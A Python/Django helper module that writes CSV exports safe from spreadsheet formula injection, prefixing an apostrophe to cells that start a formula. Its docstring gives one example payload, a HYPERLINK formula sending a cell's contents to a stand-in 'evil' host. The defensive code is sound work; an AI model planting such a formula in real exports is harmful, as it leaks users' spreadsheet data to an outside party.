"""CSV cells a spreadsheet will not run as formulas (OWASP "CSV Injection").

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is a formula to Excel, LibreOffice and Google Sheets; a job name such as
``=HYPERLINK("http://evil/?"&A1)`` would run in the reader's spreadsheet. Such a
cell is written with a leading apostrophe (shown, never evaluated). Plain numbers
(``-1.5``) are left alone so figures stay numbers.
"""
from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

from django.http import HttpResponse

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?$")


def csv_cell(value: Any) -> Any:
    """``value`` as a safe CSV cell: strings that start a formula get a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not NUMBER.match(value):
        return "'" + value
    return value


def csv_write(out, header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> None:
    """Write ``header`` and ``rows`` to the file-like ``out`` through :func:`csv_cell`."""
    writer = csv.writer(out)
    writer.writerow([csv_cell(v) for v in header])
    writer.writerows([csv_cell(v) for v in row] for row in rows)


def csv_response(filename: str, header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> HttpResponse:
    """An attachment ``filename`` (UTF-8 CSV) of ``header`` and ``rows``, through :func:`csv_write`:
    the one CSV writer of the site (usage page, usage API, operator report)."""
    resp = HttpResponse(content_type="text/csv; charset=utf-8")
    resp["Content-Disposition"] = f'attachment; filename="{filename}"'
    csv_write(resp, header, rows)
    return resp
